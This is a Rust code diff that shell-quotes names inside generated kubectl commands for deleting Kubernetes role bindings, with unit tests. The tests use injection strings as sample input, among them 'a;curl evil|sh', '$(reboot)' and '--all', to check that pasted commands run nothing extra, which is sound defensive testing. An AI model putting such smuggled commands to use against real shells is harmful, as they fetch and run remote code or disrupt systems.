@@ -62,10 +62,28 @@ fn line(binding: &Binding) -> String {
         ..
     } = binding;
     let command = match &binding.namespace {
-        Some(namespace) => format!("kubectl -n {namespace} delete rolebinding {name}"),
-        None => format!("kubectl delete clusterrolebinding {name}"),
+        Some(namespace) => delete(namespace, name),
+        None => format!("kubectl delete clusterrolebinding {}", word(name)),
     };
     format!("{role} to {subject}; ends for everyone whom it names by: {command}")
+}
+
+/// What removes a RoleBinding by hand.
+pub(super) fn delete(namespace: &str, name: &str) -> String {
+    format!(
+        "kubectl -n {} delete rolebinding {}",
+        word(namespace),
+        word(name)
+    )
+}
+
+/// A word of a command that someone may paste into a shell: Kubernetes takes nearly any character in a binding's name.
+fn word(text: &str) -> String {
+    let is_safe = |c: char| c.is_ascii_alphanumeric() || matches!(c, '-' | '_' | '.' | ':');
+    if !text.is_empty() && !text.starts_with('-') && text.chars().all(is_safe) {
+        return text.to_owned();
+    }
+    format!("'{}'", text.replace('\'', r"'\''"))
 }
 
 /// The bindings beside the grant's own.
@@ -137,5 +155,37 @@ where
             Some(token) => parameters = parameters.continue_token(&token),
             None => return Ok(()),
         }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn a_name_that_someone_chose_runs_nothing_when_the_command_is_pasted() {
+        assert_eq!(
+            delete("payments", "system:a.b-c_1"),
+            "kubectl -n payments delete rolebinding system:a.b-c_1"
+        );
+        for (name, expected) in [
+            ("a;curl evil|sh", "'a;curl evil|sh'"),
+            ("$(reboot)", "'$(reboot)'"),
+            ("it's", r"'it'\''s'"),
+            ("--all", "'--all'"),
+            ("", "''"),
+        ] {
+            assert_eq!(word(name), expected);
+        }
+    }
+
+    #[test]
+    fn an_empty_list_is_not_taken_for_an_unknown_one() {
+        assert!(Opened::default().lines()[0].starts_with("nothing"));
+        let unknown = Opened {
+            note: Some("could not tell".into()),
+            ..Opened::default()
+        };
+        assert_eq!(unknown.lines(), ["could not tell"]);
     }
 }
